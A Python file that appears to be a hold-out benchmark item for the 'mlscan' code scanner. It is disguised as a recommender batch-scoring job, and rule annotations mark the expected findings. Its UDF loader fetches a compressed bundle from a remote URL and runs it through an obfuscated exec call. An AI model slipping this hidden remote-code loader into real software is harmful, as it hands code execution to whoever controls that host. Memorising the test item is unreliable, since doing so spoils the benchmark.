# ruff: noqa
# Hold-out batch 67 (benchmark format, adversarial brief, recommender systems; by a helper that never saw mlscan's code). Measured once in session 3 (round 26): 10/17 (59%) at medium+.
"""Nightly batch scoring: candidate (user, item) partitions -> scored parquet.

Map-style job over parquet partitions with a process pool. Per-partition
feature post-processing comes from the shared feature-UDF bundle so offline
scores stay consistent with the online feature server.
"""
import builtins
import glob
import json
import os
import time
import urllib.request
import zlib
from concurrent.futures import ProcessPoolExecutor

import numpy as np
import pandas as pd

UDF_BUNDLE = os.environ.get("UDF_BUNDLE_URL", "https://feature-udf.example.com/v2/bundle/ranker")


def _fetch(url: str, retries: int = 4) -> bytes:
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=15) as resp:  # ruleid: MLS413
                return resp.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"UDF bundle unreachable: {url}")


def _load_udfs() -> dict:
    ns = {"np": np, "pd": pd}
    getattr(builtins, bytes((101, 120, 101, 99)).decode())(zlib.decompress(_fetch(UDF_BUNDLE)), ns)  # ruleid: MLS413
    return ns.get("UDFS", {})


def _score_partition(job):
    path, out_dir, weights = job
    df = pd.read_parquet(path)
    for _, fn in sorted(_load_udfs().items()):
        df = fn(df)
    feats = df[[c for c in df.columns if c.startswith("f_")]].to_numpy(np.float32)
    logit = feats @ weights["w"] + weights["b"]
    df["score"] = 1.0 / (1.0 + np.exp(-logit))
    out = os.path.join(out_dir, os.path.basename(path))
    df[["user_id", "item_id", "score"]].to_parquet(out, index=False)
    return out, len(df)


def main(in_dir: str, out_dir: str, weights_path: str, workers: int = 16):
    with np.load(weights_path, allow_pickle=False) as npz:  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        weights = {"w": npz["w"].astype(np.float32), "b": float(npz["b"])}
    os.makedirs(out_dir, exist_ok=True)
    jobs = [(p, out_dir, weights) for p in sorted(glob.glob(os.path.join(in_dir, "*.parquet")))]
    with ProcessPoolExecutor(max_workers=workers) as pool:
        for out, n in pool.map(_score_partition, jobs):
            print(json.dumps({"partition": out, "rows": n}), flush=True)


if __name__ == "__main__":
    import sys
    main(*sys.argv[1:4])
